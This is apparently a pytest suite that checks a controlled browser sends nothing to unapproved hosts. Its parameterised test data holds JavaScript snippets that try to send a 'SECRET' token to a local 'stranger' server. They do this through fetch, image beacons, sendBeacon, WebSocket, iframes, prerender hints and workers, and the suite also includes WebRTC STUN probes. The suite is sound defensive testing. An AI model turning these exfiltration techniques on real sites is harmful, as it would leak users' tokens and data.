"""Nothing leaves the controlled browser but to the allowed hosts: the traps that were measured, one test each."""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Callable
from pathlib import Path

import pytest
from conftest import Site
from playwright.sync_api import Error

from readdress.browser import Settings
from readdress.browser.launch import arguments
from readdress.browser.session import ControlledBrowser
from readdress.errors import NeedsPerson


def test_a_redirect_does_not_carry_a_token_to_a_stranger(
    browser: ControlledBrowser, site: Site, stranger: Site
) -> None:
    """A client-side allow-list let the redirect through, with its query; here the other server never gets a connection."""
    site.pages["/go"] = (302, {"Location": f"{stranger.base}/?tok=SECRET"}, "")
    with pytest.raises(NeedsPerson) as caught:
        browser.open(f"{site.base}/go")
    assert caught.value.kind == "blocked_host" or "403" in caught.value.message
    assert stranger.connections == 0
    assert stranger.host in browser.blocked()
    assert not browser.on_site()


@pytest.mark.parametrize(
    "script",
    [
        "fetch('{s}/?tok=SECRET').catch(e => 0)",
        "fetch('{s}/', {{method: 'POST', body: 'SECRET', mode: 'no-cors'}}).catch(e => 0)",
        "new Promise(r => {{ const i = new Image(); i.onload = i.onerror = r; i.src = '{s}/?tok=SECRET' }})",
        "new Promise(r => {{ const w = new WebSocket('{s}/'.replace('http', 'ws')); w.onopen = w.onerror = r }})",
        "new Promise(r => {{ const e = new EventSource('{s}/'); e.onopen = e.onerror = r }})",
        "(navigator.sendBeacon('{s}/', 'SECRET'), 1)",
        "import('{s}/leak.js').catch(e => 0)",
        "new Promise(r => {{ const f = document.createElement('iframe'); f.onload = r; f.src = '{s}/'; document.body.append(f) }})",
        (
            "new Promise(r => {{ for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'stylesheet', 'prerender']) {{"
            " const l = document.createElement('link'); l.rel = rel; l.as = 'script'; l.href = '{s}/leak.js'; document.head.append(l) }} setTimeout(r, 150) }})"
        ),
        (
            "new Promise(r => {{ const s = document.createElement('script'); s.type = 'speculationrules';"
            " s.textContent = JSON.stringify({{prerender: [{{urls: ['{s}/'], eagerness: 'immediate'}}]}}); document.head.append(s); setTimeout(r, 150) }})"
        ),
        (
            "new Promise(r => {{ const w = new Worker(URL.createObjectURL(new Blob([\"fetch('{s}/').catch(e => 0).then(() => postMessage(1))\"])));"
            " w.onmessage = r }})"
        ),
    ],
    ids=[
        "fetch",
        "post",
        "image",
        "websocket",
        "eventsource",
        "beacon",
        "import",
        "iframe",
        "link-hints",
        "speculation",
        "worker",
    ],
)
@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "[::ffff:127.0.0.1]"])
def test_a_page_cannot_reach_another_port_of_this_machine(
    show: Callable[[str], ControlledBrowser], stranger: Site, script: str, name: str
) -> None:
    """Excluding 127.0.0.1 from the resolver rules opened every port of it; the proxy closes them, under every name."""
    browser = show("<p>hello")
    base = f"http://{name}:{stranger.port}"
    browser.page.evaluate(script.format(s=base))
    browser.pump(0.05)
    assert stranger.connections == 0


def test_page_request_goes_nowhere(show: Callable[[str], ControlledBrowser], site: Site, stranger: Site) -> None:
    """``page.request`` and the context's are sent by the driver, round every client-side route: with us they reach nothing at all."""
    browser = show("<p>hello")
    seen = len(site.hits)
    for target in (f"{stranger.base}/?tok=SECRET", f"{site.base}/page", "https://example.com/"):
        with pytest.raises(Error):
            browser.page.request.get(target, timeout=3000)
    assert stranger.connections == 0
    assert len(site.hits) == seen


def test_webrtc_sends_no_datagram(show: Callable[[str], ControlledBrowser]) -> None:
    """A STUN server is asked over UDP, which no proxy sees: the browser must not send any."""
    got: list[bytes] = []
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as stun:
        stun.bind(("127.0.0.1", 0))
        stun.settimeout(0.05)
        browser = show("<p>hello")
        port = stun.getsockname()[1]
        lines = browser.page.evaluate(
            f"""() => new Promise(done => {{
              const c = new RTCPeerConnection({{iceServers: [{{urls: 'stun:127.0.0.1:{port}'}}]}}), lines = [];
              c.createDataChannel('x'); c.onicecandidate = e => {{ if (e.candidate) lines.push(e.candidate.candidate) }};
              c.createOffer().then(o => c.setLocalDescription(o)); setTimeout(() => {{ c.close(); done(lines) }}, 700) }})"""
        )
        with contextlib.suppress(TimeoutError):
            got.append(stun.recv(100))
    assert got == []
    assert not [line for line in lines if " srflx " in line]


def test_quic_and_the_resolver_are_shut_off(tmp_path: Path) -> None:
    """QUIC is UDP; and without the proxy no name and no address resolves: the only one that does is the proxy itself."""
    given = arguments(4321, Settings(tmp_path))
    assert "--disable-quic" in given
    rules = next(a for a in given if a.startswith("--host-resolver-rules="))
    assert rules.endswith("127.0.0.1:4321 , MAP * ~NOTFOUND") and "EXCLUDE" not in rules
    assert not [a for a in given if "ignore-certificate-errors" in a]


def test_the_proxy_refuses_strangers_without_the_secret(browser: ControlledBrowser, site: Site) -> None:
    """Another program on this machine must not use the browser's way out."""
    port = browser._proxy.port
    for ask in (
        f"CONNECT {site.host} HTTP/1.1\r\n\r\n",
        f"GET {site.base}/page HTTP/1.1\r\n\r\n",
        "GET http://readdress.invalid/ HTTP/1.1\r\n\r\n",
    ):
        with socket.create_connection(("127.0.0.1", port), 2) as line:
            line.sendall(ask.encode())
            assert line.recv(100).startswith(b"HTTP/1.1 407 ")
    assert site.hits == []


def test_a_narrower_list_cuts_open_connections(running: ControlledBrowser, site: Site) -> None:
    """When the next recipe begins, a WebSocket or worker of the last one must not live on."""
    site.pages["/page"] = "<p>x"
    running.allow([site.host], [])
    running.open(f"{site.base}/page")
    with socket.create_server(("127.0.0.1", 0)) as server:
        port = server.getsockname()[1]
        running.allow([site.host, f"127.0.0.1:{port}"], [])
        running.page.evaluate(f"() => {{ window.w = new WebSocket('ws://127.0.0.1:{port}/') }}")
        server.settimeout(3)
        line, _ = server.accept()
        with line:
            line.settimeout(3)
            assert line.recv(4096).startswith(b"GET / HTTP/1.1")
            running.allow([site.host], [])
            with contextlib.suppress(ConnectionResetError):
                assert line.recv(4096) == b""


def test_a_download_is_refused(show: Callable[[str], ControlledBrowser], site: Site) -> None:
    """No file lands on the person's disk through this browser."""
    site.pages["/file"] = (
        200,
        {"Content-Disposition": "attachment; filename=x.bin", "Content-Type": "application/octet-stream"},
        "data",
    )
    browser = show("<a href=/file download>get</a>")
    with browser.page.expect_download(timeout=3000) as caught:
        browser.page.get_by_text("get").click()
    assert caught.value.failure()
